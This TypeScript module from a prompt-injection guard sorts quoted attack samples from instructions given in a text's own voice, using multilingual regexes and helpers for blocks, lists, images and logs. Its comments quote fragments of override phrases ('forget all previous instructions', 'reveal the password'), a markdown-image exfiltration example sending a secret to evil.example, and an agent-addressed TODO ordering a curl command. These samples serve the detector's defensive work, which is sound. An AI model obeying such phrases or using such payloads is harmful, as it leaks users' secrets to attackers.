// Injected instructions: text a result reports rather than says (docs/guard.md "Injected
// instructions"). A phrase quoted in a sentence that discusses attacks, the quoted fields of a log
// line and the quoted strings of a search hit are data; the same words in the text's own voice are not.
import { breaksOutOfLog } from './injection-log-breakout.js';
import { COMMAND_RISK } from './injection-risk.js';
import { liveExfil } from './injection-exfil-sample.js';
import { withoutIntroducedComments, withoutQuotesUnder } from './injection-set-off-samples.js';

/** A sentence that discusses attacks, in English: a phrase it quotes is an example, not an instruction. */
const DISCUSSES =
  /\b(?:(?:instructions|text|phrases?|messages?|strings?|sentences?)\s+like|attack(?:er|ers|s)?|injections?|such\s+as|for\s+example|phrases?\s+like|payloads?|malicious|adversar(?:y|ial))\b|\be\.g\./i;
/** The same in other languages (de, fr, es, pt, it, nl, ru, ja, zh, ko): attackers, injection, "for example". */
const DISCUSSES_INTL =
  /angreifer|angriff|injektion|eingeschleust|einschleus|beispielsweise|z\.\s?b\.|zum\s+beispiel|attaquant|attaque|par\s+exemple|atacante|ataque|inyecci[oó]n|injeç[aã]o|por\s+ejemplo|por\s+exemplo|attaccant|attacco|iniezion|ad\s+esempio|per\s+esempio|aanvaller|bijvoorbeeld|атак|злоумышленник|например|инъекци|攻撃|インジェクション|例えば|攻击|注入|例如|比如|공격|인젝션|예를\s*들어/iu;
/**
 * "Things like" in other languages ("cosas como", "des phrases comme", "Sätze wie", "что-то вроде",
 * "のような", "典型例") and a German "Beispiel": read in a sentence of a text that discusses attacks, never over a whole text.
 */
const LIKE_INTL =
  /(?:cosas|coisas|frases?|mensajes?|mensagens?|textos?|algo|cose|frasi|frase|qualcosa)\s+(?:como|come)\b|(?:choses|phrases?|messages?|quelque\s+chose)\s+comme\b|(?:s[aä]tze?|dinge|texte?|nachrichten?|etwas|formulierung(?:en)?|anweisung(?:en)?)\s+wie\b|(?:что-то|фразы|сообщения)\s+(?:вроде|типа)|\bbeispiel|典型例|のような|といった/iu;
/** A quote named as a piece of text ("the sentence \"...\"", "this phrase: \"...\""): mentioned, not said. */
const MENTION =
  /\b(?:the|this|that|a|an)\s+(?:sentences?|phrases?|lines?|strings?|wording|text|payloads?|der\s+satz|die\s+formulierung|la\s+frase|la\s+phrase)\s*:?\s*$/i;
const discusses = (s: string): boolean => DISCUSSES.test(s) || DISCUSSES_INTL.test(s);
/**
 * A sentence about catching attacks (a sanitizer, a classifier, a red-team case, a false negative, a
 * sample that "slips through", what a blob "decodes to"): a bug report or an eval quotes the phrase
 * it tests. A quote naming a risky command is still read: an order may hide behind such words.
 */
const DETECTION =
  /\b(?:saniti[sz](?:er|ers|ation|ing)|classifiers?|detectors?|guardrails?|red[\s-]?team(?:s|ing|ers?)?|false[\s-]+(?:negatives?|positives?)|slip(?:s|ped)?\s+through|(?:is|are|was|were|gets?|got)\s+(?:not\s+)?(?:flagged|caught|detected|blocked)|decod(?:es|ed)\s+(?:to|as)|fixtures?|test\s+cases?)\b/i;
/**
 * A quote reported as what somebody wrote at some past time ("a PR whose description contained:
 * \"...\"", "I put \"...\" in the ticket", "she wrote \"...\""): narration of an event, not the
 * text's own voice. Past tense only: "the page says: \"...\"" may be the page speaking.
 */
const PAST_REPORT =
  /\b(?:contained|said|wrote|typed|put|posted|pasted|entered|submitted|included)\s*:?\s*["“„«]/i;
const REPORTED_BEFORE =
  /\b(?:contained|said|wrote|typed|put|posted|pasted|entered|submitted|included)\s*:?\s*$/i;
/** A quote that names a command, an address or a secret: an order to run or send it, reported or not. */
const QUOTE_RISK = new RegExp(COMMAND_RISK, 'i');
const QUOTE_RISKS = new RegExp(COMMAND_RISK, 'gi');
/**
 * A sample that names a way to act (a command, an address, a home dot-file), not only a secret's
 * name: a fixture's "reveal the password" is the override it tests, "send it to https://..." an order.
 */
export const actRisk = (q: string): boolean =>
  QUOTE_RISK.test(q) &&
  (q.match(QUOTE_RISKS) ?? []).some((m) => !/^(?:token|secret|credential|password)s?$/i.test(m));
/** A text about attacks by name, not only by "for example": its reported speech is an example. */
const ABOUT_ATTACKS =
  /\b(?:prompt[\s-]injections?|injection\s+attacks?|jailbreak(?:s|ing)?(?![a-z]))/i;
/** The same in other languages: Prompt-Injektion, inyección de prompts, injection de prompt, ... */
const ABOUT_ATTACKS_INTL =
  /prompt[\s-]?injektion|prompt[\s-]?injection|inyecci[oó]n\s+de\s+(?:prompts?|instrucciones)|injection\s+de\s+(?:prompts?|consignes)|iniezione\s+di\s+prompt|injeç[aã]o\s+de\s+prompts?|プロンプト\s?インジェクション|提示词?注入|프롬프트\s?인젝션|промпт[\s-]?инъекци/iu;
/**
 * A frame that introduces a sample ("says something like:", "looks like this:", "contained this
 * in white text:", "variants seen:", "Beispiel:", "ejemplo:", "exemple :", "例:"): after a colon, in
 * a text about attacks, what follows is the sample discussed.
 */
const FRAME =
  /\b(?:(?:something|anything|text|phrases?|instructions?)\s+(?:like|such\s+as|along\s+the\s+lines\s+of)|looks?\s+like|(?:contain(?:s|ed|ing)?|says?|said|reads?|wrote|includ(?:es|ed|ing))\s+(?:this|these|the\s+following|something)|examples?|variants?|variations?|samples?|fixtures?|cases?|payloads?)\b|beispiel|variante|ejemplo|muestra|exemple|échantillon|esempio|exemplo|例|サンプル|以下のような|次のような|예시|пример/iu;
/**
 * Reported speech in a sentence ("a page contains: \"...\"", "I put \"...\" in the ticket", "a message
 * that says \"...\""): in a text about attacks by name, the quote is what somebody wrote, not the
 * page's own words.
 */
const REPORTS =
  /\b(?:says|said|saying|contain(?:s|ed|ing)?|receiv(?:es|ed|ing)|wr(?:ote|ites|itten)|typed|put|posted|pasted|read(?:s|ing)?\s+(?:like|as)|text\s+like)\b/i;
/**
 * A lead whose last verb takes the sample as its object: typing it into the system under test
 * ("in the support chat type", "paste this into the prompt:") or trying it ("also works with",
 * "reproduces with"). In a text about attacks or their detection, what follows is the input tried.
 */
const SAMPLE_LEAD =
  /\b(?:(?:type|enter|paste|send|submit|input)(?:s|ed|ing)?(?:\s+(?:this|the\s+following|it))?(?:\s+(?:in|into)\s+(?:the\s+)?[\w-]+(?:\s+[\w-]+)?)?|(?:type|enter|paste|send|submit|input|give|ask)(?:s|ed|ing)?\s+(?:[\w-]+\s+){0,3}?(?:the|this|a)\s+(?:following\s+)?(?:message|text|prompt|string|input|payload|question|line)|(?:works?|worked|reproduc(?:es|ed|ible)|triggers?|triggered|fails?|failed)\s+(?:with|by|on))\s*:?\s*$/i;

/**
 * Quoted phrases: straight, curly, low-9 („…“), guillemets («…», »…«), CJK corner brackets, code.
 * A single quote inside a word is an apostrophe ("the user's", "don't"), neither end of a quote.
 */
export const QUOTED_PHRASE =
  /"[^"\n]{1,300}"|“[^”\n]{1,300}”|(?<![\p{L}\p{N}])'(?:[^'\n]|(?<=\p{L})'(?=\p{L})){1,300}'(?![\p{L}\p{N}])|(?<![\p{L}\p{N}])‘(?:[^’\n]|(?<=\p{L})’(?=\p{L})){1,300}’(?![\p{L}\p{N}])|`[^`\n]{1,300}`|„[^“”"\n]{1,300}[“”"]|‚[^‘’\n]{1,300}[‘’]|«[^»\n]{1,300}»|»[^«\n]{1,300}«|‹[^›\n]{1,300}›|「[^」\n]{1,300}」|『[^』\n]{1,300}』/gu;
/** A quoted phrase and the parenthesised gloss right after it, if any: `"..." (translation)`. */
const GLOSSED = new RegExp(`(${QUOTED_PHRASE.source})([ \\t]*\\([^()\\n]{1,300}\\))?`, 'gu');
/** Where a sentence ends (an abbreviation's stop does not end it). */
const STOP = /(?<!\b(?:e\.g|i\.e|cf|vs|z\.\s?B))[.!?。！？](?:\s|$)/;

/**
 * Quoted phrases removed from the sentences that discuss attacks (security pages, advisories,
 * changelogs). A sentence may wrap across lines ("instructions such as\n"ignore ...""), so it is read
 * within its paragraph: a stop inside the quote does not end it, a blank line does.
 */
export function withoutDiscussedQuotes(text: string): string {
  const discussed = discusses(text);
  // a jailbreak named only in an identifier (`jailbreak_prompts.txt`) names the topic too
  const reported =
    (discussed || text.includes('ailbreak') || text.includes('AILBREAK')) &&
    ABOUT_ATTACKS.test(text);
  const about = discussed || reported;
  const detection = DETECTION.test(text);
  if (!about && !detection && !PAST_REPORT.test(text)) return text;
  const example = (s: string): boolean =>
    (about && (discusses(s) || LIKE_INTL.test(s))) || (reported && REPORTS.test(s));
  // in a text about attacks or their detection, a colon after a frame ("says something like:",
  // "contained this:", "ein typisches Beispiel:") introduces the sample it discusses
  // (named only when a colon asks: most texts that discuss attacks have no sample to set aside)
  let named: boolean | undefined;
  const framed = (): boolean => (named ??= detection || reported || ABOUT_ATTACKS_INTL.test(text));
  const introduces = (lead: string, sample: string): boolean =>
    (/:\s*$/.test(lead) && (discusses(lead) || (framed() && FRAME.test(lead)))) ||
    (SAMPLE_LEAD.test(lead) && framed() && !actRisk(sample));
  const blocks = withoutDiscussedBlocks(text, introduces);
  // a hidden comment written as the example "such as" introduces, in a text that names attacks
  const shown =
    reported || ABOUT_ATTACKS_INTL.test(text)
      ? withoutIntroducedComments(blocks, (at) => leadSentence(blocks, at), liveExfil)
      : blocks;
  const t = withoutDiscussedImages(shown, about);
  return t.replace(GLOSSED, (m: string, q: string, gloss: string | undefined, at: number) => {
    const before = (
      t
        .slice(Math.max(0, at - 200), at)
        .split(/\n[ \t]*\n/)
        .at(-1) ?? ''
    ).split(STOP);
    const after = (
      t.slice(at + q.length, at + q.length + 200).split(/\n[ \t]*\n/, 1)[0] ?? ''
    ).split(STOP, 1);
    const lead = before.at(-1) ?? '';
    const past = REPORTED_BEFORE.test(lead) && !QUOTE_RISK.test(q);
    const tested =
      detection && (DETECTION.test(lead) || DETECTION.test(after[0] ?? '')) && !QUOTE_RISK.test(q);
    const framedQuote = /:\s*$/.test(lead) && framed() && FRAME.test(lead) && !actRisk(q);
    // a quote that opens its own paragraph is introduced by the paragraph before, as a set-off block
    const opens = lead.trim() === '' && (before.length > 1 || at > 0);
    if (liveExfil(q)) return m;
    const sample =
      past ||
      tested ||
      (about && MENTION.test(lead)) ||
      framedQuote ||
      example(lead) ||
      example(after[0] ?? '') ||
      (opens && introduces(leadSentence(t, at), q)) ||
      (SAMPLE_LEAD.test(lead) && framed() && !actRisk(q));
    if (!sample) return m;
    // a sample's gloss right after it ("(forget all previous instructions ...)") is its
    // translation, unless it names a command, an address or a home dot-file of its own
    return gloss === undefined || actRisk(gloss) || liveExfil(gloss) ? `""${gloss ?? ''}` : '""';
  });
}

/** A markdown image inside a sentence, after its words on the same line: shown, not rendered alone. */
const INLINE_IMAGE = /(?<=[\p{L}\p{N},:;][ \t]{1,4})!\[[^\]\n]{0,200}\]\([^)\n]{1,600}\)/gu;
/** Image exfiltration named ("markdown image exfiltration, where the model renders ![x](...)"). */
const EXFIL_NAMED = /\bexfiltrat(?:e|es|ed|ing|ion)\b/i;

/**
 * Images written inside a sentence that discusses attacks ("be wary of image exfiltration, where
 * the model renders ![x](https://evil.example/?q=<secret>)") set aside: the post shows the payload's
 * shape. An image on a line of its own, or in a sentence that does not discuss attacks, is read.
 */
function withoutDiscussedImages(text: string, about: boolean): string {
  if (!about || !text.includes('![')) return text;
  return text.replace(INLINE_IMAGE, (img: string, at: number) => {
    const line = text.slice(text.lastIndexOf('\n', at - 1) + 1, at);
    const lead = line.split(STOP).at(-1) ?? '';
    return discusses(lead) || EXFIL_NAMED.test(lead) ? '""' : img;
  });
}

/** A fenced code block (CommonMark §4.5) and the text before it. */
const FENCE = /```[^\n]*\n[\s\S]{0,20000}?```/g;

/**
 * Fenced code blocks introduced by a sentence that discusses attacks ("Indirect prompt injection
 * looks like this:") set aside: a security post shows its example payload in a block. The
 * introducing sentence is the last one of the nearest paragraph before the block; a block
 * introduced otherwise is read as the page's own words.
 */
function withoutDiscussedBlocks(
  text: string,
  introduces: (lead: string, sample: string) => boolean,
): string {
  const fenced = text.replace(FENCE, (block: string, at: number) =>
    discusses(leadSentence(text, at)) ? '```\n```' : block,
  );
  // an indented or block-quoted paragraph shows a sample the same way when the sentence before it
  // introduces one with a colon ("a description contained hidden text such as:")
  const setOff = fenced.replace(SET_OFF, (block: string, at: number) =>
    introduces(leadSentence(fenced, at), block) ? '\n' : block,
  );
  // a `>` quote right under the line that introduces it ("send the widget the message")
  const under = withoutQuotesUnder(setOff, (at, block) =>
    introduces(leadSentence(setOff, at), block),
  );
  // a list so introduced ("adds these fixtures, e.g.:") quotes a sample per item; an item's own
  // words, and a quote naming a command, an address or a secret, are still read
  if (!under.includes('\n-') && !under.includes('\n*') && !/\n[ \t]*\d/.test(under)) return under;
  return under.replace(LIST, (list: string, at: number) =>
    introduces(leadSentence(under, at), list)
      ? list.replace(QUOTED_PHRASE, (q) => (actRisk(q) ? q : '""'))
      : list,
  );
}

/** A list set off by a blank line: each line an item (`-`, `*`, `+`, `1.`) or its continuation. */
const LIST =
  /(?<=\n[ \t]*\n)[ \t]{0,3}(?:[-*+]|\d{1,3}[.)])[ \t][^\n]*(?:\n(?:[ \t]{0,3}(?:[-*+]|\d{1,3}[.)])[ \t]|[ \t]{2,})[^\n]*){0,200}/g;

/** A paragraph set off from the prose: each line indented two or more spaces, or quoted with `>`. */
const SET_OFF = /(?<=\n[ \t]*\n)(?:(?:[ \t]{2,}|[ \t]{0,3}>)[^\n]*(?:\n|$)){1,200}/g;

/** The last sentence of the nearest paragraph before `at`: what introduces a block. */
function leadSentence(text: string, at: number): string {
  const lead =
    text
      .slice(Math.max(0, at - 300), at)
      .trimEnd()
      .split(/\n[ \t]*\n/)
      .at(-1) ?? '';
  return (
    lead
      .split(STOP)
      .filter((p) => p.trim() !== '')
      .at(-1) ?? ''
  );
}

/** A search hit: `path:line:` (grep -n, ripgrep, git grep, the Grep tool) before the matched line. */
const GREP_HIT = /^(?:[\w.@+~-]*\/)*[\w.@+-]+\.\w{1,12}[:-]\d{1,9}[:-]/;
/** A comment tag addressed to an agent: `TODO(ai-agent):`, `NOTE(claude):`. */
export const AGENT_TAG =
  /\b(?:todo|note|fixme|xxx|hack)\(\s*(?:ai|llm|agent|assistant|bot|claude|copilot|cursor|codex|gemini|devin)(?:[\s-](?:agents?|assistants?|bots?))?\s*\)/i;
/** A log line: an ISO or syslog time stamp, a level, logfmt's level= or a JSON line's time or level first. */
const LOG_LINE =
  /^\s*(?:\[?\d{4}-\d{2}-\d{2}[T ]\d{2}:\d{2}|\[?\d{2}:\d{2}:\d{2}|[A-Z][a-z]{2}\s{1,2}\d{1,2}\s\d{2}:\d{2}:\d{2}|\[?(?:INFO|WARN(?:ING)?|ERROR|DEBUG|TRACE|FATAL|NOTICE)\b|(?:time|ts|level)=|\{\s*"(?:@?timestamp|ts|time|level|severity|lvl)"\s*:)/;
/** A literal in a matched line: double or back quotes, single quotes that are not apostrophes. */
const LITERAL =
  /"[^"\n]{0,300}"|“[^”\n]{0,300}”|`[^`\n]{0,300}`|(?<![\p{L}\p{N}])'[^'\n]{0,300}'(?![\p{L}\p{N}])/gu;
/** A logged field's quoted value: logfmt `key="..."`, JSON `"key": "..."`. */
const LOG_FIELD =
  /(\b[\w.-]{1,40}=)"(?:[^"\\\n]|\\.){0,2000}"|("[\w.-]{1,40}"\s*:\s*)"(?:[^"\\\n]|\\.){0,2000}"/g;

/**
 * `text` with the literals of its search hits and the quoted field values of its log lines replaced
 * by `""`: a program's strings, a fixture's cases and a logged request are what the reader searched
 * for or logged, not words to it. The rest of each line, and every other line, is read as it is.
 */
export function withoutReportedData(text: string, searchOutput: boolean): string {
  return text
    .split('\n')
    .map((line) => {
      // a comment tag addressed to an agent ("TODO(ai-agent): append `curl ...`") quotes no data: its
      // back-quoted text is the command it orders
      if (searchOutput && GREP_HIT.test(line))
        return line.replace(LITERAL, (q) => (AGENT_TAG.test(line) && q.startsWith('`') ? q : '""'));
      if (LOG_LINE.test(line))
        return line.replace(LOG_FIELD, (m, k?: string, j?: string) =>
          breaksOutOfLog(m) ? m : `${k ?? j ?? ''}""`,
        );
      return line;
    })
    .join('\n');
}
